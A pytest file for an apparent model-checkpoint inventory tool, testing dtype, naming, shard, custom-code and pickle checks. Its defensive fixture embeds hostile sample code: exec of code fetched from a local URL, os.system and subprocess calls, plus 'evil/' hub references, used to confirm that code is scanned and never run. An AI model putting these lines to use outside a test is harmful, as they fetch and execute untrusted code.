"""Traps 24 and 30 to 36 of real checkpoints: precision, dtypes, names, unknown types, code, pickles."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from day0.adapters.base.dtypes import FROM_SAFETENSORS
from day0.adapters.checkpoints.release import open_release
from day0.tasks.finding import Finding
from day0.tasks.inventory.record import InventoryRecord
from day0.tasks.inventory.take import take_inventory
from day0.tasks.verdict import Verdict
from support.raw_checkpoints import write_filled, write_index
from support.raw_pickles import CLASS, COMPUTED, PLAIN, SYSTEM, torch_archive, torch_stream
from support.small_releases import MIXTRAL, mixtral_tensors

_RAW = {short: name for name, short in FROM_SAFETENSORS.items()}
Tensors = dict[str, tuple[str, Sequence[int]]]

DEEPSEEK: dict[str, Any] = {
    "architectures": ["DeepseekV3ForCausalLM"],
    "model_type": "deepseek_v3",
    "torch_dtype": "bfloat16",
    "hidden_size": 32,
    "num_hidden_layers": 3,
    "num_attention_heads": 2,
    "vocab_size": 64,
    "n_routed_experts": 4,
    "num_experts_per_tok": 2,
    "first_k_dense_replace": 1,
    "kv_lora_rank": 16,
    "qk_nope_head_dim": 16,
    "qk_rope_head_dim": 64,
    "v_head_dim": 16,
    "scoring_func": "sigmoid",
    "topk_method": "noaux_tc",
    "rope_theta": 10000,
    "rms_norm_eps": 1e-6,
    "hidden_act": "silu",
    "tie_word_embeddings": False,
}


def deepseek(bias: str = "fp32", norm: str = "bf16") -> Tensors:
    found: Tensors = {
        "model.embed_tokens.weight": ("bf16", (64, 32)),
        "lm_head.weight": ("bf16", (64, 32)),
        "model.norm.weight": (norm, (32,)),
    }
    for layer in range(3):
        root = f"model.layers.{layer}"
        found[f"{root}.self_attn.kv_a_proj_with_mqa.weight"] = ("bf16", (80, 32))
        found[f"{root}.self_attn.o_proj.weight"] = ("bf16", (32, 32))
        for name in ("input_layernorm", "post_attention_layernorm"):
            found[f"{root}.{name}.weight"] = (norm, (32,))
        if layer == 0:
            found[f"{root}.mlp.up_proj.weight"] = ("bf16", (64, 32))
            continue
        found[f"{root}.mlp.gate.weight"] = ("bf16", (4, 32))
        found[f"{root}.mlp.gate.e_score_correction_bias"] = (bias, (4,))
        for expert in range(4):
            found[f"{root}.mlp.experts.{expert}.up_proj.weight"] = ("bf16", (16, 32))
    return found


def raw(tensors: Tensors) -> dict[str, tuple[str, Sequence[int]]]:
    """The tensors with their dtypes as safetensors writes them."""
    return {name: (_RAW[dtype], shape) for name, (dtype, shape) in tensors.items()}


def release(
    folder: Path, config: Mapping[str, Any], tensors: Tensors, file: str = "model.safetensors"
) -> InventoryRecord:
    """The inventory of one file of these tensors beside that config."""
    write_filled(folder / file, raw(tensors))
    (folder / "config.json").write_text(json.dumps(config))
    return take_inventory(open_release(str(folder)))


def met(record: InventoryRecord, code: str) -> list[Finding]:
    return [finding for finding in record.findings if finding.code == code]


@pytest.mark.parametrize(("size", "odd"), [(56, True), (34, True), (32, False)])
def test_trap_24_stored_rotary_tables_are_buffers_and_odd_sizes_warn(
    tmp_path: Path, size: int, odd: bool
) -> None:
    bare = release(tmp_path / "bare", DEEPSEEK, deepseek()).facts
    tensors = deepseek()
    for layer in range(3):
        tensors[f"model.layers.{layer}.self_attn.rotary_emb.inv_freq"] = ("bf16", (size,))
    record = release(tmp_path / "tables", DEEPSEEK, tensors)
    row = next(row for row in record.facts.patterns if row.pattern.endswith("inv_freq"))
    assert (row.role, row.params, row.tensors) == ("buffer", 0, 3)
    assert record.facts.totals.logical_params == bare.totals.logical_params
    said = met(record, "INV074")
    assert [finding.severity for finding in said] == ["warning"] * odd
    if odd:
        pattern = "model.layers.{l}.self_attn.rotary_emb.inv_freq"
        expected = f"is stored 3 times with {size} entries in bf16; 64 rotated elements of a head need 32"
        assert said[0].message == f"{pattern} {expected}"


def test_trap_30_what_must_stay_in_f32_is_told_by_role(tmp_path: Path) -> None:
    record = release(tmp_path, DEEPSEEK, deepseek())
    (need,) = record.facts.precision
    assert (need.pattern, need.role) == ("model.layers.{l}.mlp.gate.e_score_correction_bias", "router")
    assert (need.stored, need.need, need.tensors) == ("fp32", "fp32", 2)
    assert "98.5% of tokens" in need.reason
    assert record.facts.roles["router"].dtypes.keys() == {"bf16", "fp32"}
    assert [finding.severity for finding in met(record, "INV072")] == ["info"]
    assert not met(record, "INV071")


def test_trap_30_a_correction_bias_in_bf16_has_lost_its_digits(tmp_path: Path) -> None:
    record = release(tmp_path, DEEPSEEK, deepseek(bias="bf16"))
    (said,) = met(record, "INV071")
    assert said.severity == "warning"
    assert "stored in bf16 (2 tensors) and needs fp32" in said.message
    assert said.subject.name == "model.layers.{l}.mlp.gate.e_score_correction_bias"


def test_trap_30_norms_that_went_to_f32_are_named(tmp_path: Path) -> None:
    needs = {
        need.pattern: need for need in release(tmp_path, DEEPSEEK, deepseek(norm="fp32")).facts.precision
    }
    norms = [need for need in needs.values() if need.role == "norm"]
    assert {need.stored for need in norms} == {"fp32"}
    assert sum(need.tensors for need in norms) == 7
    other = release(tmp_path, DEEPSEEK, deepseek(norm="bf16"))
    assert not [need for need in other.facts.precision if need.role == "norm"]
    assert other.facts.structure.norms.dtypes == {"bf16": 7}


@pytest.mark.parametrize(
    ("stated", "stored", "verdict", "code"),
    [
        ({}, "bf16", "absent", "INV073"),
        ({"torch_dtype": "bfloat16"}, "fp32", "contradicts", "INV017"),
        ({"torch_dtype": "float16"}, "fp32", "contradicts", "INV017"),
        ({"dtype": "bfloat16"}, "bf16", "agrees", ""),
        ({"torch_dtype": "torch.bfloat16"}, "bf16", "agrees", ""),
        ({"dtype": "bfloat16", "torch_dtype": "float16"}, "bf16", "both", "INV073"),
        ({"torch_dtype": "auto"}, "bf16", "absent", "INV073"),
    ],
)
def test_trap_31_dtype_of_the_config_against_the_headers(
    tmp_path: Path, stated: dict[str, str], stored: str, verdict: str, code: str
) -> None:
    config = {key: value for key, value in MIXTRAL.items() if key != "torch_dtype"} | stated
    tensors: Tensors = {name: (stored, shape) for name, (_, shape) in mixtral_tensors().items()}
    record = release(tmp_path, config, tensors)
    told = record.facts.structure.dtype
    assert (told.verdict, told.headers) == (verdict, stored)
    assert {finding.code for finding in record.findings} & {"INV017", "INV073"} == ({code} if code else set())
    assert record.verdict is not Verdict.FAIL


def test_trap_32_names_of_all_dialects_have_roles_and_the_rest_is_listed(tmp_path: Path) -> None:
    root = "model.layers.0"
    tensors = {name: shape for name, shape in mixtral_tensors().items() if ".layers." not in name} | {
        f"{root}.self_attn.qkv_proj.weight": ("bf16", (64, 32)),
        f"{root}.self_attn.q_conv1d.weight": ("bf16", (32, 1, 4)),
        f"{root}.self_attn.kv_b_proj.weight": ("bf16", (64, 16)),
        f"{root}.self_attn.indexer.wq_b.weight": ("bf16", (64, 16)),
        f"{root}.self_attn.compressor.ape": ("fp32", (4, 16)),
        f"{root}.mlp.experts.gate_up_proj": ("bf16", (4, 32, 64)),
        f"{root}.mlp.experts.down_proj": ("bf16", (4, 32, 32)),
        f"{root}.mlp.gate.weight": ("bf16", (4, 32)),
        f"{root}.hc_attn_fn": ("fp32", (24, 128)),
        f"{root}.never_seen_before": ("bf16", (7,)),
    }
    record = release(tmp_path, MIXTRAL | {"num_hidden_layers": 1}, tensors)
    roles = {
        row.pattern.replace("{l}", "0").removeprefix(f"{root}."): row.role for row in record.facts.patterns
    }
    assert roles["self_attn.qkv_proj.weight"] == roles["self_attn.q_conv1d.weight"] == "attention"
    assert roles["self_attn.indexer.wq_b.weight"] == roles["self_attn.compressor.ape"] == "attention"
    assert roles["mlp.experts.gate_up_proj"] == roles["mlp.experts.down_proj"] == "expert"
    assert roles["hc_attn_fn"] == roles["never_seen_before"] == "unknown"
    assert set(record.facts.unknown_tensors) == {
        "model.layers.{l}.hc_attn_fn",
        "model.layers.{l}.never_seen_before",
    }
    assert [finding.severity for finding in met(record, "INV015")] == ["warning"]
    assert record.facts.totals.tensors == len(tensors)


@pytest.mark.parametrize("first", [0, 1])
def test_trap_32_lists_of_layers_count_from_0_or_from_1(tmp_path: Path, first: int) -> None:
    kinds = ["linear", "linear", "linear", "full"]
    listed = {
        "kda_layers": [place + first for place, kind in enumerate(kinds) if kind == "linear"],
        "full_attn_layers": [place + first for place, kind in enumerate(kinds) if kind == "full"],
        "num_heads": 2,
        "head_dim": 16,
        "short_conv_kernel_size": 4,
    }
    config = {"model_type": "kimi_linear", "hidden_size": 32, "num_hidden_layers": 4,
              "num_attention_heads": 2, "vocab_size": 64, "linear_attn_config": listed}  # fmt: skip
    (tmp_path / "config.json").write_text(json.dumps(config))
    facts = take_inventory(open_release(str(tmp_path / "config.json")), expected=False).facts
    assert [layer.kind for layer in facts.layers] == kinds
    assert facts.structure.layer_pattern.text == "3x linear + 1x full"


@pytest.mark.parametrize("indexed", [False, True])
@pytest.mark.parametrize(
    "names",
    [
        [f"model-{number:05d}-of-000011.safetensors" for number in range(1, 12)],
        [f"model-{number:05d}-of-00011.safetensors" for number in range(11)],
        [f"model-{number:05d}-of-00010.safetensors" for number in range(11)],
        [f"model-{number}-of-11.safetensors" for number in range(1, 12)],
        [f"model_{number:05d}.safetensors" for number in range(2, 13)],
    ],
    ids=["six digits", "from 0", "from 0 to N", "no padding", "no total"],
)
def test_trap_33_shards_are_numbered_in_many_ways(tmp_path: Path, names: list[str], indexed: bool) -> None:
    tensors = mixtral_tensors()
    owner = {tensor: names[place % len(names)] for place, tensor in enumerate(tensors)}
    for name in names:
        held = {tensor: tensors[tensor] for tensor in tensors if owner[tensor] == name}
        write_filled(
            tmp_path / name, {tensor: (_RAW[dtype], shape) for tensor, (dtype, shape) in held.items()}
        )
    if indexed:
        write_index(tmp_path, owner, 0)
    (tmp_path / "config.json").write_text(json.dumps(MIXTRAL))
    facts = (record := take_inventory(open_release(str(tmp_path)))).facts
    assert [shard.path for shard in facts.shards] == names
    assert facts.totals.tensors == len(tensors)
    assert not met(record, "INV002")
    assert record.verdict is not Verdict.FAIL


_UNASKED = """
import sys, threading
from day0.adapters.checkpoints.release import open_release
from day0.tasks.inventory.take import take_inventory
def work():
    record = take_inventory(open_release(sys.argv[1]))
    support = record.facts.transformers
    print(record.facts.totals.tensors, support.model_type, support.native, support.needs_custom_code,
          "transformers" in sys.modules)
thread = threading.Thread(target=work)
thread.start()
thread.join()
"""


def test_trap_34_raw_json_first_and_nobody_is_asked(tmp_path: Path) -> None:
    config = DEEPSEEK | {"model_type": "deepseek_ref", "auto_map": {"AutoModel": "modeling_ref.Ref"}}
    release(tmp_path, config, deepseek())
    (tmp_path / "modeling_ref.py").write_text("import nothing_of_that_name\nclass Ref: ...\n")
    ran = subprocess.run(  # no main thread, no standard input: transformers' question would hang or fail
        [sys.executable, "-c", _UNASKED, str(tmp_path)], stdin=subprocess.DEVNULL, capture_output=True,
        text=True, timeout=60, check=False,
    )  # fmt: skip
    assert ran.stdout.split() == [str(len(deepseek())), "deepseek_ref", "False", "True", "False"], ran.stderr


@pytest.mark.parametrize(
    ("model_type", "since", "severities"),
    [("deepseek_v3", "4.51", []), ("gpt_oss", "4.55", []), ("deepseek_ref", "", ["warning"]),
     ("mimo", "", ["warning"]), ("transfo-xl", "4.0", ["warning"])],
)  # fmt: skip
def test_trap_34_which_transformers_knows_the_type(
    tmp_path: Path, model_type: str, since: str, severities: list[str]
) -> None:
    record = release(tmp_path, DEEPSEEK | {"model_type": model_type}, deepseek())
    assert record.facts.transformers.known_since == since
    assert record.facts.transformers.native is (not severities)
    assert [finding.severity for finding in met(record, "INV075")] == severities
    assert record.facts.totals.tensors == len(deepseek())


def test_trap_34_code_of_its_own_makes_an_unknown_type_a_remark(tmp_path: Path) -> None:
    (tmp_path / "modeling_ref.py").write_text("class Ref: ...\n")
    config = DEEPSEEK | {"model_type": "deepseek_ref", "auto_map": {"AutoModel": "modeling_ref.Ref"}}
    record = release(tmp_path, config, deepseek())
    assert record.facts.transformers.needs_custom_code
    assert [finding.severity for finding in met(record, "INV075")] == ["info"]
    assert not met(record, "INV069")


@pytest.mark.parametrize("file", ["params.json", "config.json"])
def test_trap_34_a_vendors_own_json_ends_in_a_table_of_names_and_shapes(tmp_path: Path, file: str) -> None:
    native = {"dim": 32, "n_layers": 1, "head_dim": 8, "hidden_dim": 64, "n_heads": 4, "n_kv_heads": 2,
              "norm_eps": 1e-5, "vocab_size": 100, "rope_theta": 1e6,
              "moe": {"num_experts": 4, "num_experts_per_tok": 2}}  # fmt: skip
    tensors: Tensors = {
        "tok_embeddings.weight": ("bf16", (100, 32)),
        "output.weight": ("bf16", (100, 32)),
        "norm.weight": ("bf16", (32,)),
        "layers.0.attention.wq.weight": ("bf16", (32, 32)),
        "layers.0.attention_norm.weight": ("bf16", (32,)),
        "layers.0.feed_forward.gate.weight": ("bf16", (4, 32)),
        **{f"layers.0.feed_forward.experts.{e}.w1.weight": ("bf16", (64, 32)) for e in range(4)},
    }
    write_filled(
        tmp_path / "consolidated.safetensors",
        {name: (_RAW[dtype], shape) for name, (dtype, shape) in tensors.items()},
    )
    (tmp_path / file).write_text(json.dumps(native))
    record = take_inventory(open_release(str(tmp_path)))
    architecture = record.facts.architecture
    assert (architecture.layers, architecture.hidden_size, architecture.heads) == (1, 32, 4)
    assert (architecture.experts, architecture.top_k, architecture.model_type) == (4, 2, "")
    assert record.facts.totals.tensors == len(tensors)
    assert record.facts.unknown_tensors == []
    assert record.sources["/architecture/layers"] == f"{file}#/n_layers"
    assert met(record, "INV034")


_HOSTILE = """
import os
import urllib.request
from subprocess import run as start
open("gotcha", "w").write("run")
exec(urllib.request.urlopen("http://127.0.0.1:9/x").read())
class Net:
    def forward(self, x):
        start(["touch", "gotcha"])
        return getattr(os, "system")("touch gotcha")
"""


def test_trap_35_code_is_read_and_never_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "release"
    folder.mkdir()
    (folder / "modeling_net.py").write_text(_HOSTILE)
    config = DEEPSEEK | {
        "auto_map": {
            "AutoModelForCausalLM": "modeling_net.Net",
            "AutoConfig": "evil/base--conf_x.Conf",
        },
        "vision_config": {"_attn_implementation_internal": "evil/kernel@main:forward"},
        "attn_implementation": "flash_attention_2",
    }
    record = release(folder, config, deepseek())
    assert not (tmp_path / "gotcha").exists()
    calls = {(call.kind, call.what, call.line) for call in record.facts.code.calls}
    assert {("execute", "exec", 6), ("network", "urllib.request.urlopen", 6),
            ("process", "subprocess.run", 9), ("process", "os.system", 10),
            ("write", "open", 5)} <= calls  # fmt: skip
    by_kind = {finding.subject.name: finding.severity for finding in met(record, "INV067")}
    assert by_kind == {"code: execute": "warning", "code: process": "warning", "code: network": "warning",
                       "code: write": "info"}  # fmt: skip
    foreign = {finding.subject.name: finding.severity for finding in met(record, "INV070")}
    assert foreign == {
        "config.json#/auto_map/AutoConfig": "warning",
        "config.json#/vision_config/_attn_implementation_internal": "error",
    }
    assert "hub:evil/kernel" in record.facts.code.kernels
    found = {item.target: item.found for item in record.facts.code.references}
    assert found == {"modeling_net.Net": True, "conf_x.Conf": None, "evil/kernel@main:forward": None}


def test_trap_35_what_the_config_asks_for_and_the_release_lacks(tmp_path: Path) -> None:
    (tmp_path / "modeling_net.py").write_text("from .configuration_net import Conf\nclass Other: ...\n")
    config = DEEPSEEK | {"model_type": "acme", "auto_map": {"AutoModel": "modeling_net.Net"}}
    record = release(tmp_path, config, deepseek())
    said = {finding.subject.name: finding.message for finding in met(record, "INV069")}
    assert said.keys() == {"auto_map", "modeling_net.py"}
    assert "modeling_net.Net" in said["auto_map"]
    assert ".configuration_net" in said["modeling_net.py"]


@pytest.mark.parametrize(
    ("file", "data", "verdict", "container"),
    [
        ("pytorch_model.bin", torch_archive(PLAIN), "plain weights", "zip"),
        ("pytorch_model.bin", torch_stream(PLAIN), "plain weights", "legacy"),
        ("model.pt", torch_archive(SYSTEM), "asks for code", "zip"),
        ("model.pth", torch_archive(SYSTEM, packed=True), "asks for code", "zip"),
        ("model.ckpt", torch_stream(SYSTEM), "asks for code", "legacy"),
        ("model.pkl", COMPUTED, "asks for code", "bare"),
        ("model.bin", torch_archive(CLASS), "asks for code", "zip"),
        ("model.bin", torch_archive(PLAIN)[:-30], "not listed", "zip"),
    ],
)
def test_trap_36_pickles_are_listed_and_not_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str, data: bytes, verdict: str, container: str
) -> None:
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "release"
    folder.mkdir()
    (folder / file).write_bytes(data)
    (folder / "config.json").write_text(json.dumps(MIXTRAL))
    record = take_inventory(open_release(str(folder)), expected=False)
    (listed,) = record.facts.pickles
    assert (listed.verdict, listed.container, listed.status) == (verdict, container, "convert first")
    assert not (tmp_path / "gotcha").exists()
    assert record.facts.format == "pickle"
    assert met(record, "INV003")
    asks = [finding.severity for finding in met(record, "INV076")]
    commands = bool({"posix.system", "os.system"} & set(listed.globals))
    assert asks == ([] if verdict != "asks for code" else ["error" if commands else "warning"])
    assert len(met(record, "INV077")) == (verdict == "not listed")


def test_trap_36_pickles_beside_safetensors_need_no_conversion(tmp_path: Path) -> None:
    (tmp_path / "pytorch_model.bin").write_bytes(torch_archive(PLAIN))
    (tmp_path / "training_args.bin").write_bytes(torch_archive(CLASS))
    record = release(tmp_path, MIXTRAL, mixtral_tensors())
    assert {item.path: (item.verdict, item.status) for item in record.facts.pickles} == {
        "pytorch_model.bin": ("plain weights", "not needed"),
        "training_args.bin": ("asks for code", "not needed"),
    }
    assert [finding.severity for finding in met(record, "INV076")] == ["info"]
    assert record.facts.totals.tensors == len(mixtral_tensors())
